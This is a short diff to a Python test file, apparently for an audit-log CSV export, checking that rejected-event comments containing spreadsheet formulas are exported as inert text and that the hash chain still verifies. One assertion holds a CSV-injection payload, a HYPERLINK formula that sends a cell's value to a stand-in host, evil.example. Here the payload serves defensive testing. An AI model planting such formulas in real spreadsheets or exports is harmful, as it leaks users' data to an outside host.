@@ -102,7 +102,7 @@ def test_an_examiner_checks_the_whole_trail_without_arbiter(history, auditor):
 def test_cells_a_spreadsheet_would_run_are_text_and_still_verify(history, auditor):
     _, rows = download(api(auditor), "/api/v1/audit/events/?format=csv")
     comments = [row["comment"] for row in rows if row["action"] == "reject"]
-    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")" in comments
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"ok")' in comments
     assert "''quoted' as it was" in comments
     assert chain_problems(rows) == []  # the recipe removes the one quote before hashing
 
